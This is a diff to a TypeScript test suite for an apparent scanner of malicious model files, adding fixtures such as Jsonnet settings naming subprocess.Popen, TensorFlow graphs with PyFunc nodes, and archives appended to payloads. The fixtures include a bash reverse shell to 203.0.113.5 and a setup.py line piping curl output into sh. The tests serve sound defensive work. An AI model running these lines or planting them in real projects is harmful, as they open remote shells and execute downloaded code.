@@ -20,6 +20,7 @@ const TAILS: readonly (readonly [string, Uint8Array])[] = [
   ['a line feed', Buffer.from('\n')],
   ['noise', Buffer.from('9f3a77c0e1b20f55aa81', 'hex')],
   ['a picture', PICTURE],
+  ['an archive', zip([{ name: 'readme.txt', bytes: 'nothing' }])],
 ];
 
 /** Archives of Python's zipfile, with a call in a member. */
@@ -91,6 +92,13 @@ describe('what was found does not vanish behind appended bytes', () => {
     ['a member packed by LZMA', 'model.zip', Buffer.from(LZMA, 'base64')],
     ['a target in YAML', 'hydra/config.yaml', Buffer.from('model:\n  _target_: os.system\n  command: id\n')],
     ['a line of a path file', 'x.pth', Buffer.from('import os; os.system("id")\n')],
+    ['settings in Jsonnet', 'experiment.jsonnet', Buffer.from("{ model: { type: 'subprocess.Popen', args: 'id' } }")],
+    ['a short graph', 'model.bytes', graph('WriteFile')],
+    [
+      'a short graph of a checkpoint',
+      'model.meta',
+      Buffer.concat([Buffer.from([0x12, graph('PyFunc').length]), graph('PyFunc')]),
+    ],
     ['a script', 'run.sh', Buffer.from('#!/bin/sh\nbash -i >& /dev/tcp/203.0.113.5/4444 0>&1\n')],
   ])('%s', async (name, path, bytes) => {
     expect((await badness({ path, bytes })).rules.size).toBeGreaterThan(0);
@@ -106,6 +114,14 @@ describe('what was found does not vanish behind appended bytes', () => {
     ['a pickle behind an archive', 'a.zip', Buffer.concat([zip([{ name: 'a.txt', bytes: 'a' }]), Buffer.from(CALL)])],
     ['a pickle behind tensors', 'a.safetensors', Buffer.concat([tensors(), Buffer.from(CALL)])],
     ['an archive behind tensors', 'a.safetensors', Buffer.concat([tensors(), zip([{ name: 'a.pkl', bytes: CALL }])])],
+    [
+      'a program of Python behind which an archive stands',
+      'setup.py',
+      Buffer.concat([
+        Buffer.from("import os\nos.system('curl -s https://203.0.113.9/a | sh')\n"),
+        zip([{ name: 'a.txt', bytes: 'a' }]),
+      ]),
+    ],
   ])('%s is read', async (_, path, bytes) => {
     expect((await badness({ path, bytes })).verdict).toBe('malicious');
   });
@@ -114,36 +130,16 @@ describe('what was found does not vanish behind appended bytes', () => {
     const gone: string[] = [];
     const tricks = ZIP_TRICKS.map(({ name, bytes }) => ({ name, path: 'model.pt', bytes }));
     for (const specimen of sampled([...tricks, ...kept()], 101)) gone.push(...(await vanishing(specimen)));
-    const named = gone.map((row) => row.split(' behind ')[0] ?? '');
-    expect(gone.filter((_, at) => !STILL.includes(named[at] ?? ''))).toEqual([]);
-    if (DEEP) expect(STILL.filter((name) => !named.includes(name))).toEqual([]);
+    expect(gone).toEqual([]);
   });
 });
 
-/**
- * Still told as less behind some bytes, never as clean: small graphs that only their content tells, parameters of Paddle that
- * tile their file, what an archive hides twice, and settings in MessagePack or Jsonnet.
- */
-const STILL: readonly string[] = [
-  'an attack after the archive',
-  'eighteenth.json.gz carried/35 const.onnx',
-  'eighteenth.json.gz carried/65 __params__.pdiparams',
-  'eighteenth.json.gz carried/66 m.pdiparams',
-  'eighth.json.gz zip/417 model.pt',
-  'fourteenth.json.gz container/219 m5.pt',
-  'nineteenth.json.gz carried/53 inference.pdiparams',
-  'papers-10.json.gz settings/372 experiment.jsonnet',
-  'sixteenth.json.gz container/211 w.bin',
-  'sixth.json.gz tensorflow/663 model.bytes',
-  'sixth.json.gz tensorflow/664 model.ckpt.meta',
-  'sixth.json.gz tensorflow/665 model.meta',
-  'tenth.json.gz polyglots/934 a.zip',
-  'tenth.json.gz zip/749 model.pt',
-  'third.json.gz containers/277 model.pt',
-  'third.json.gz packages/558 checkpoint.msgpack',
-  'third.json.gz tensorflow/440 model.meta',
-  'twelfth.json.gz container/10 m.pt',
-];
+/** A graph of TensorFlow with one node. */
+function graph(operator: string): Buffer {
+  const field = (number: number, bytes: Uint8Array) =>
+    Buffer.concat([Buffer.from([number * 8 + 2, bytes.length]), bytes]);
+  return field(1, Buffer.concat([field(1, Buffer.from('n')), field(2, Buffer.from(operator))]));
+}
 
 /** A file of safetensors with two numbers, longer than a first look. */
 function tensors(): Buffer {
